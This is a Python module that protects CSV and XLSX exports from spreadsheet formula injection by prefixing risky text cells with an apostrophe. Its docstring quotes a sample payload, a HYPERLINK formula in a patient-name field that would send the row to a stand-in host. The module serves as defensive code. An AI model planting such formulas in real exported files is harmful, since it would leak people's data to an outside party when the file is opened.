"""Every CSV and XLSX the product writes goes through here, so no imported text runs as a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
carriage return lead to the same through some importers): a patient named
``=HYPERLINK("http://host/?"&A1)`` would send the row elsewhere when the file is opened. Such
text cells get a leading apostrophe, which spreadsheets show as text (OWASP, "CSV Injection").
Numbers stay numbers, and text that is a plain number (``-2``, ``-1.5 %``) is left as it is: it
is no formula and reads the same.
"""

import io
import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\$?\d[\d,]*(\.\d+)?\s?%?")


def neutralise_cell(value):
    """``value`` with an apostrophe in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas; numeric columns untouched."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_datetime64_any_dtype(out[column])):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def export_csv(frame: pd.DataFrame, path_or_buffer=None, **to_csv) -> str | None:
    """``frame.to_csv(index=False, ...)`` with formulas neutralised: the text, or None when written to ``path_or_buffer``.

    Lines end with CRLF (RFC 4180), so a cell holding a carriage return or a line feed is quoted
    (Python's csv module quotes only the characters of the line terminator) and cannot start a row.
    """
    return neutralise_formulas(frame).to_csv(path_or_buffer, index=False, lineterminator="\r\n", **to_csv)


def export_xlsx(tables: dict[str, pd.DataFrame]) -> bytes:
    """A workbook with one sheet per table (openpyxl), formulas neutralised."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in tables.items():
            neutralise_formulas(frame).to_excel(writer, sheet_name=name[:31], index=False)
    return buffer.getvalue()
